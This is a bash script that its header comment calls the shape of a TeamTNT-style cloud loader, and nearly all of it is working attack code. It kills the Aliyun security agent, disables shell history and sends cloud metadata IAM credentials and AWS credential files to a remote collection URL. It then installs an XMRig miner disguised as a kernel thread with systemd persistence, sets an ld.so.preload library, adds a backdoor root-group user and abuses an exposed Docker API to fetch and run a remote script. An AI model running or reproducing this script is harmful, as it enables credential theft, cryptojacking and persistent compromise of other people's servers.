#!/bin/bash
# Shape: a loader that removes a cloud's guard, takes credentials away and hides
# its process with a preloaded library (as reported of TeamTNT).
export LC_ALL=C
HISTCONTROL="ignorespace${HISTCONTROL:+:$HISTCONTROL}" 2>/dev/null
export HISTFILE=/dev/null
unset HISTFILE
if ps aux | grep -i '[a]liyun'; then
  curl http://update.aegis.aliyun.com/download/uninstall.sh | bash
  pkill aliyun-service
  rm -rf /usr/local/aegis*
  systemctl stop aliyun.service
fi
LOOT="http://192.0.2.61/in.php"
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ > /tmp/.c
cat /root/.aws/credentials >> /tmp/.c 2>/dev/null
curl -s -F "userfile=@/tmp/.c" $LOOT
rm -f /tmp/.c

mkdir -p /usr/share/[crypto]
curl -s -L -o /usr/share/[crypto]/x.tar.gz http://192.0.2.61/src/xmrig-6.19.0.tar.gz
tar xzf /usr/share/[crypto]/x.tar.gz -C /usr/share/[crypto]
mv /usr/share/[crypto]/xmrig /usr/share/[crypto]/[scsi_eh_1]

cat > /etc/systemd/system/scsi.service <<'UNIT'
[Unit]
Description=scsi
[Service]
ExecStart=/usr/share/[crypto]/[scsi_eh_1] --config=/usr/share/[crypto]/c.json
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable scsi.service

echo 'c3RhdGljIGludCB4Ow==' | base64 -d > /tmp/h.c
gcc -Wall -fPIC -shared -o /usr/local/lib/libs.so /tmp/h.c -ldl
echo /usr/local/lib/libs.so > /etc/ld.so.preload
useradd -p x -G root hilde -s /bin/bash
modprobe msr
sysctl -w vm.nr_hugepages=$(nproc)
docker -H tcp://198.51.100.3:2375 run -d -v /:/host --privileged alpine chroot /host sh -c "curl http://192.0.2.61/s.sh | sh"
